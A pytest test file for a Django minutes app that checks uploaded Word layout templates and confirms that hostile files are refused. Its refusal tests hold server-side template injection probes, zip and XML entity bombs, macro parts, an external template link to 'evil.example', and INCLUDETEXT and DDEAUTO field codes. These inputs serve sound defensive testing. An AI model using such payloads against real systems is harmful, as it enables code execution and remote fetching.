"""An office's own Word layouts: what they may say, and what is refused, hostile files included."""

import dataclasses
import io
import re
import secrets
import time
import zipfile

import docx
import pytest
from django.core.files.base import ContentFile
from django.db import IntegrityError
from django.utils import translation
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from gusu_minutes.documents.layouts import DOCUMENTED, LayoutError, check_layout, fields_of, fill, render_layout
from gusu_minutes.documents.layouts.fields import FIELDS, LISTS
from gusu_minutes.documents.layouts.language import LayoutEnvironment, Refused
from gusu_minutes.documents.layouts.samples import BARE, FULL
from gusu_minutes.documents.layouts.starting import LAYOUT_KINDS, starting_layout
from gusu_minutes.documents.model import Clause, Item
from gusu_minutes.documents.models import LAYOUT_CHOICES, WordLayout, layout_for
from tests.architecture.sources import ROOT
from tests.documents.layout_files import layout_record, repacked, word, word_file
from tests.factories import SeriesFactory


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def text_of(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    lines = [paragraph.text for paragraph in document.paragraphs]
    lines += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    for section in document.sections:
        lines += [line.text for part in (section.header, section.footer) for line in part.paragraphs if line.text]
    return "\n".join(lines)


def filled(*lines: str, document=FULL) -> str:
    data = word(*lines)
    check_layout(data)
    return text_of(fill(data, fields_of(document)))


def refusal(data: bytes) -> str:
    with pytest.raises(LayoutError) as caught:
        check_layout(data)
    return str(caught.value)


# What layouts can say


def test_fields_lists_and_conditions():
    assert filled(
        "{{ title }}",
        "{%p for item in items %}",
        "{{ loop.index }} {{ item.heading }}{% if item.presenting %}（{{ item.presenting }}）{% endif %}",
        "{%p for clause in item.clauses if clause.number %}",
        "{{ clause.whole }}{% for task in clause.tasks %}{{ task.lead }}{{ task.due }}{% endfor %}",
        "{%p endfor %}",
        "{%p else %}",
        "没有议题",
        "{%p endfor %}",
        "{{ place or '另行通知' }}{{ '共' ~ items|length ~ '项' }}{{ annexes|join('；') }}{{ annexes|first }}",
    ).splitlines() == [
        "姑苏区政府第39次常务会议",
        "1 一、审议《<古城>保护 & 更新方案》（区发改局、区财政局）",
        "（一）会议原则同意。",
        "请尽快印发实施。",
        "（二）由区财政局牵头落实资金。区财政局2024年12月31日",
        "2 二、听取工作汇报",
        "区行政中心301会议室共2项实施方案；责任清单实施方案",
    ]


def test_a_bare_document_fills_a_layout():
    lines = (
        "{{ number }}{{ place or '另行通知' }}",
        "{%p for item in items %}",
        "x",
        "{%p else %}",
        "无",
        "{%p endfor %}",
    )
    assert filled(*lines, document=BARE).splitlines() == ["另行通知", "无"]


def test_fields_in_headers_and_footers():
    document = docx.Document()
    document.add_paragraph("{{ title }}")
    document.sections[0].header.paragraphs[0].text = "{{ classification }}"
    document.sections[0].footer.paragraphs[0].text = "{{ issuer }}"
    data = word_file(document)
    check_layout(data)
    text = text_of(fill(data, fields_of(FULL)))
    assert "内部" in text and "姑苏区人民政府办公室" in text
    document.sections[0].footer.paragraphs[0].text = "{{ nobody }}"
    assert "nobody" in refusal(word_file(document))


NOTES = (
    '<?xml version="1.0" encoding="UTF-8"?><w:footnotes '
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="2"><w:p><w:r>'
    "<w:t>{}</w:t></w:r></w:p></w:footnote></w:footnotes>"
)


def with_note(text: str) -> bytes:
    """Return a layout with a footnote of this text."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    with zipfile.ZipFile(io.BytesIO(word("{{ title }}"))) as package:
        links = package.read("word/_rels/document.xml.rels").decode()
    link = (
        '<Relationship Id="rId99" Target="footnotes.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"/></Relationships>'
    )
    parts = {
        "word/footnotes.xml": NOTES.format(text).encode(),
        "word/_rels/document.xml.rels": links.replace("</Relationships>", link).encode(),
    }
    override = f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/></Types>'
    return repacked(word("{{ title }}"), parts, types=("</Types>", override))


def test_fields_in_footnotes():
    data = with_note("{{ document_number }}")
    check_layout(data)
    with zipfile.ZipFile(io.BytesIO(fill(data, fields_of(FULL)))) as package:
        assert FULL.document_number in package.read("word/footnotes.xml").decode()
    assert "There is no field “nobody”" in refusal(with_note("{{ nobody }}"))


@pytest.mark.parametrize("kind", LAYOUT_KINDS)
def test_the_layout_to_begin_with(kind):
    data = starting_layout(kind)
    check_layout(data)
    text = text_of(fill(data, fields_of(FULL, recipient="区财政局")))
    assert FULL.title in text
    assert "{" not in text


@pytest.mark.parametrize("value", ["{{ title }}", "{% for x in y %}", "<w:p/>", "&amp;", "a\x00\x07\x0cb\ud800", "]]>"])
def test_what_a_document_says_is_text(value):
    item = Item("a", "一", value, "study", "", (), (), (), (Clause("b", "", value),))
    document = dataclasses.replace(FULL, title=value, items=(item,), preamble=(value,))
    shown = re.sub("[\x00\x07\x0c\ud800]", "", value)
    lines = ("{{ title }}", "{%p for item in items %}", "{{ item.title }}", "{%p endfor %}")
    assert filled(*lines, document=document).splitlines() == [shown, shown]


def test_metadata_come_from_the_document():
    layout = docx.Document()
    layout.core_properties.author = layout.core_properties.last_modified_by = "某人"
    made = docx.Document(io.BytesIO(fill(word_file(layout), fields_of(FULL)))).core_properties
    assert (made.title, made.author, made.last_modified_by) == (FULL.title, FULL.issuer, FULL.issuer)


# What they cannot say


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{{ ''.__class__ }}", "is no field"),
        ("{{ title.__class__ }}", "There is no field “title.__class__”"),
        ("{{ title.__class__.__mro__ }}", "is no field"),
        ("{{ self }}", "There is no field “self”"),
        ("{{ loop.index }}", "There is no field “loop.index”"),
        ("{{ items[0] }}", "not taken by number"),
        ("{{ title.upper() }}", "may not call"),
        ("{{ range(3) }}", "may not call"),
        ("{{ cycler.__init__.__globals__.os }}", "is no field"),
        ("{{ nobody }}", "There is no field “nobody”"),
        ("{{ items }}", "is a list"),
        ("{{ items or title }}", "is a list"),
        ("{{ items if title else '' }}", "is a list"),
        ("{{ items|first }}", "several fields"),
        ("{{ items|join }}", "several fields"),
        ("{{ title|upper }}", "There is no filter “upper”"),
        ("{{ title|attr('x') }}", "There is no filter “attr”"),
        ("{{ title|safe }}", "There is no filter “safe”"),
        ("{{ title|default(place) }}", "texts in quotation marks only"),
        ("{{ title|join(attribute='x') }}", "texts in quotation marks only"),
        ("{{ title * 1000000000 }}", "may not say this"),
        ("{{ 9 ** 9 ** 9 }}", "may not say this"),
        ("{{ [1, 2] }}", "may not say this"),
        ("{{ title", "braces do not fit"),
        ("{{ title }", "braces do not fit"),
        ("一个 { 括号", "braces do not fit"),
        ("{% for x in range(10**9) %}x{% endfor %}", "may not call"),
        ("{% for x in title %}x{% endfor %}", "is no list"),
        ("{% for x in nobody %}x{% endfor %}", "There is no field “nobody”"),
        ("{% for x in items %}{{ x }}{% endfor %}", "several fields"),
        ("{% for x in items %}{{ x.nobody }}{% endfor %}", "There is no field “x.nobody”"),
        ("{% for x in items %}{% for y in items %}x{% endfor %}{% endfor %}", "the lists of its own entries"),
        (
            "{% for x in items %}{% for y in x.clauses %}{% for z in x.clauses %}x{% endfor %}{% endfor %}{% endfor %}",
            "the lists of its own entries",
        ),
        ("{% for a, b in items %}x{% endfor %}", "one name"),
        ("{% for x in items recursive %}x{% endfor %}", "one name"),
        ("{% for title in items %}x{% endfor %}", "means something else"),
        ("{% for x in items %}x", "not closed"),
        ("{% if title %}x", "not closed"),
        ("{% endfor %}", "not closed"),
        ("{{ }}", "not written rightly"),
        ("{{ title title }}", "not written rightly"),
        ("{% set x = 1 %}", "no instruction “set”"),
        ("{% macro x() %}{% endmacro %}", "no instruction “macro”"),
        ("{% include 'x' %}", "no instruction “include”"),
        ("{% import 'x' as y %}", "no instruction “import”"),
        ("{% extends 'x' %}", "no instruction “extends”"),
        ("{% block x %}{% endblock %}", "no instruction “block”"),
        ("{% filter upper %}{% endfilter %}", "no instruction “filter”"),
        ("{% autoescape false %}{% endautoescape %}", "no instruction “autoescape”"),
        ("{{r title }}", "a space behind the braces"),
        ("{{p title }}", "a space behind the braces"),
        ('{{ "\\x00" }}', "cannot be printed"),
        ('{{ title|default("\\x07") }}', "cannot be printed"),
        ("{{ " + "(" * 98 + "1" + ")" * 98 + " }}", "inside one another"),
        ("{% colspan 3 %}", "no instruction “colspan”"),
        ("{{ '" + "x" * 300 + "' }}", "more than 200 characters"),
    ],
)
def test_what_is_refused(line, said):
    assert said in refusal(word("前一段", line))


def test_a_refusal_names_field_and_paragraph():
    message = refusal(word("标题", "{%p for item in items %}", "名称：{{ item.titel }}", "{%p endfor %}", "{{ plce }}"))
    assert "Paragraph 3 (名称：{{ item.titel }}): There is no field “item.titel”." in message
    assert "Paragraph 5 ({{ plce }}): There is no field “plce”." in message


def test_instructions_nested_without_end_are_refused():
    line = "{% if title %}" * 120 + "x" + "{% endif %}" * 120
    assert "cannot be filled" in refusal(word(line))
    assert "inside one another" in refusal(word("{% if title %}" * 900 + "{% endif %}" * 900))


def test_an_instruction_across_paragraphs_and_cells():
    document = docx.Document()
    document.add_paragraph("{% if place %}")
    cells = document.add_table(1, 2).rows[0].cells
    cells[0].text = "{% endif %}"
    assert "cannot be filled" in refusal(word_file(document))


@pytest.mark.parametrize("source", ["{{ ''.__class__ }}", "{% set x = 1 %}", "{% for x in items %}{{ x }}{% endfor %}"])
def test_nothing_else_is_ever_compiled(source):
    """Whoever asks for it, docxtpl for the properties of a file too."""
    with pytest.raises(Refused):
        LayoutEnvironment().from_string(source)


def test_markup_written_as_text_stays_text():
    assert filled("{{ '<w:p/>' }}{{ '<b>' ~ number }}") == "<w:p/><b>39"


def test_instructions_of_split_runs_are_read_as_one():
    document = docx.Document()
    paragraph = document.add_paragraph()
    for part in ("{", "{ ti", "tle }", "}"):
        paragraph.add_run(part)
    data = word_file(document)
    check_layout(data)
    assert FULL.title in text_of(fill(data, fields_of(FULL)))


def test_much_text_is_stopped(monkeypatch):
    monkeypatch.setattr("gusu_minutes.documents.layouts.language.MAX_OUTPUT", 10_000)
    data = word("{%p for item in items %}", "长" * 6_000, "{%p endfor %}")
    with pytest.raises(LayoutError, match="far more text"):
        fill(data, fields_of(FULL))


# Files that are none


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"plain text", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"])
def test_no_word_file(data):
    assert "no Word file" in refusal(data)


def test_another_zip():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("a.txt", "a")
    assert "no Word file" in refusal(archive.getvalue())


def test_macros():
    assert "macros" in refusal(repacked(word("x"), {"word/vbaProject.bin": b"x"}))
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert "macros" in refusal(repacked(word("x"), {}, types=(DOCX_TYPE, kind)))
    assert "macros" in refusal(repacked(word("x"), {"word/activeX/activeX1.bin": b"x"}))


DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def test_a_word_template_is_to_be_saved_as_a_document():
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    assert "Word template" in refusal(repacked(word("x"), {}, types=(DOCX_TYPE, kind)))


def test_notes_lie_where_they_are_looked_for():
    notes = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"
    assert "unsafe way" in refusal(repacked(word("x"), {}, types=(kind, notes)))


def test_a_zip_bomb():
    assert "far too much" in refusal(repacked(word("x"), {"word/media/a.xml": b"<a>" + b" " * 50_000_000 + b"</a>"}))
    assert "far too much" in refusal(repacked(word("x"), {"word/media/a.png": b"\0" * 120_000_000}))


def test_a_long_part_is_refused():
    assert "too long" in refusal(
        repacked(word("x"), {"word/a.xml": b"<a>" + secrets.token_hex(300_000).encode() + b"</a>"})
    )


def test_too_many_fields_are_refused():
    assert "too long" in refusal(word("{{ title }}" * 2_001))


def test_a_large_file_is_refused():
    assert "larger than 5 MB" in refusal(b"x" * (5 * 1024 * 1024 + 1))


def test_entities_are_refused():
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert "unsafe way" in refusal(repacked(word("x"), {"word/a.xml": bomb}))


RELATIONSHIP = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}"{}/></Relationships>'
)


@pytest.mark.parametrize(
    ("kind", "target", "mode", "said"),
    [
        ("attachedTemplate", "http://evil.example/a.dotm", ' TargetMode="External"', "points to something outside"),
        ("image", "file://server/a.png", ' TargetMode="External"', "points to something outside"),
        ("hyperlink", "https://a.example", ' TargetMode="External"', "points to something outside"),
        ("image", "\\\\server\\a.png", "", "points to something outside"),
        ("aFChunk", "a.html", "", "embedded"),
        ("oleObject", "embeddings/a.ole", "", "embedded"),
        ("package", "embeddings/a.xlsx", "", "embedded"),
        ("header", "media/header.png", "", "unsafe way"),
        ("header", "styles.xml", "", "unsafe way"),
    ],
)
def test_what_reaches_outside(kind, target, mode, said):
    relationship = RELATIONSHIP.format(kind, target, mode).encode()
    assert said in refusal(repacked(word("x"), {"word/_rels/settings.xml.rels": relationship}))


def with_field(*codes: str, simple: bool = False) -> bytes:
    document = docx.Document()
    paragraph = document.add_paragraph()
    if simple:
        field = OxmlElement("w:fldSimple")
        field.set(qn("w:instr"), codes[0])
        paragraph._p.append(field)
        return word_file(document)

    def character(kind: str) -> None:
        node = OxmlElement("w:fldChar")
        node.set(qn("w:fldCharType"), kind)
        paragraph.add_run()._r.append(node)

    character("begin")
    for code in codes:
        node = OxmlElement("w:instrText")
        node.text = code
        paragraph.add_run()._r.append(node)
    character("separate")
    paragraph.add_run("1")
    character("end")
    return word_file(document)


@pytest.mark.parametrize("codes", [(" PAGE ",), ("PA", "GE"), (" NUMPAGES \\* MERGEFORMAT",), (" =1+1",)])
def test_page_numbers_are_welcome(codes):
    check_layout(with_field(*codes))


@pytest.mark.parametrize("simple", [False, True])
@pytest.mark.parametrize(
    "codes",
    [
        (' INCLUDETEXT "http://evil.example/a.docx"',),
        ("INCLUDEPICTURE x",),
        ("DDEAUTO c:\\\\a.exe",),
        ("LINK x",),
        ("QUOTE 73",),
        ("MERGEFIELD x",),
        ("MACROBUTTON x",),
        ("{{ title }}",),
    ],
)
def test_fields_of_word_that_fetch_are_refused(codes, simple):
    assert "Word's field" in refusal(with_field(*codes, simple=simple))


def test_a_field_spread_over_runs_is_refused():
    assert "Word's field" in refusal(with_field("INCLUDE", "TEXT x"))


def test_fields_stand_in_the_text_only():
    document = docx.Document()
    run = document.add_paragraph().add_run("x")
    run._r.set(qn("w:rsidR"), "{{ title }}")
    assert "in the text only" in refusal(word_file(document))
    document = docx.Document()
    document.core_properties.title = "{{ title }}"
    assert "in the text only" in refusal(word_file(document))


@pytest.mark.parametrize(
    "line", ["{% colspan" + " " * 150 + "% x %}", "{" * 20_000, "{% " * 5_000, "{{ " * 5_000 + "}}", "-%}" * 5_000]
)
def test_nothing_takes_long(line):
    began = time.monotonic()
    refusal(word(line))
    assert time.monotonic() - began < 2


# Kept in the database


@pytest.mark.django_db
def test_one_active_layout_of_a_kind_and_series():
    series = SeriesFactory()
    layout_record(kind="minutes")
    layout_record(kind="minutes", series=series)
    layout_record(kind="minutes", active=False)
    layout_record(kind="agenda")
    with pytest.raises(IntegrityError):
        layout_record(kind="minutes", series=series)


@pytest.mark.django_db
def test_one_active_layout_of_a_kind_without_a_series():
    layout_record(kind="minutes")
    with pytest.raises(IntegrityError):
        layout_record(kind="minutes")


@pytest.mark.django_db
@pytest.mark.parametrize("general", [True, False])
def test_the_layout_of_a_series_comes_first(general, django_assert_num_queries):
    series, other = SeriesFactory(), SeriesFactory(code="other", name="专题会议")
    for_all = layout_record(kind="minutes") if general else None
    own = layout_record(kind="minutes", series=series)
    layout_record(kind="minutes", series=other, active=False)
    with django_assert_num_queries(1):
        assert layout_for("minutes", series) == own
    assert layout_for("minutes", other) == for_all
    assert layout_for("agenda", series) is None


@pytest.mark.django_db
def test_a_stored_layout_is_filled():
    layout = layout_record(kind="minutes", data=word("{{ document_name }}"))
    assert text_of(render_layout(layout, FULL)).strip() == "姑苏区政府第39次常务会议纪要"


@pytest.mark.django_db
def test_a_file_changed_on_disk_is_not_used():
    layout = layout_record(kind="minutes")
    stored = str(layout.file.name)
    layout.file.storage.delete(stored)
    with pytest.raises(LayoutError, match="missing"):
        render_layout(layout, FULL)
    layout.file.storage.save(stored, ContentFile(word("other")))
    with pytest.raises(LayoutError, match="not the one that was checked"):
        render_layout(layout, FULL)


@pytest.mark.django_db
def test_changes_of_a_layout_are_kept():
    layout = layout_record(kind="minutes")
    layout.active = False
    layout.save()
    assert WordLayout.history.filter(id=layout.pk).count() == 2


# The documentation


def test_every_kind_has_a_layout_to_begin_with():
    assert {kind.value for kind in LAYOUT_KINDS} == {value for value, _label in LAYOUT_CHOICES}


def test_every_field_is_documented_and_every_documented_one_exists():
    listed = dict(
        re.findall(r"^\| `([\w.\[\]]+)` \| (.+) \|$", (ROOT / "docs/word-layouts.md").read_text("utf-8"), re.MULTILINE)
    )
    assert listed == DOCUMENTED


def names_in(value, prefix=""):
    for name, entry in value.items():
        yield f"{prefix}{name}"
        if isinstance(entry, list) and entry and isinstance(entry[0], dict):
            yield from names_in(
                {key: value for record in entry for key, value in record.items() if value}, f"{prefix}{name}."
            )


def test_every_field_has_a_value():
    """The full sample gives every field something, and nothing that the table does not name."""
    values = fields_of(FULL, recipient="区财政局")
    assert set(values) == {name for name in FIELDS if "." not in name}
    assert set(names_in(values)) <= FIELDS
    assert all(values.values())


def test_lists_are_lists():
    assert {name for name in LISTS if "." not in name} == {
        name for name, value in fields_of(FULL).items() if isinstance(value, list)
    }


@pytest.mark.parametrize("path", sorted(name for name in FIELDS if "." not in name and name not in LISTS))
def test_each_field_can_be_printed(path):
    check_layout(word(f"{{{{ {path} }}}}"))


def test_nothing_that_a_layout_says_of_its_authors_reaches_the_document():
    document = docx.Document()
    document.add_paragraph("{{ title }}")
    for name in ("author", "category", "comments", "content_status", "identifier", "keywords", "subject", "version"):
        setattr(document.core_properties, name, "金丝雀")
    properties = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Manager>金丝雀</Manager><Company>金丝雀</Company></Properties>"
    )
    data = repacked(word_file(document), {"docProps/app.xml": properties.encode()})
    check_layout(data)
    with zipfile.ZipFile(io.BytesIO(fill(data, fields_of(FULL)))) as package:
        names = package.namelist()
        assert [name for name in names if "金丝雀" in package.read(name).decode(errors="replace")] == []
    assert [name for name in names if name.startswith(("docProps/", "customXml/"))] == ["docProps/core.xml"]


@pytest.mark.parametrize(
    "remark",
    [
        '<w:del w:id="9" w:author="某人"><w:r><w:delText>删去的话</w:delText></w:r></w:del>',
        '<w:ins w:id="9" w:author="某人"><w:r><w:t>加上的话</w:t></w:r></w:ins>',
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>隐藏的话</w:t></w:r>",
        '<w:r><w:commentReference w:id="0"/></w:r>',
    ],
)
def test_a_layout_with_remarks_of_its_authors_is_refused(remark):
    data = word("{{ title }}")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        body = package.read("word/document.xml").replace(b"</w:p>", remark.encode() + b"</w:p>", 1)
    with pytest.raises(LayoutError, match=r"批注|隐藏|comments|hidden"):
        check_layout(repacked(data, {"word/document.xml": body}))
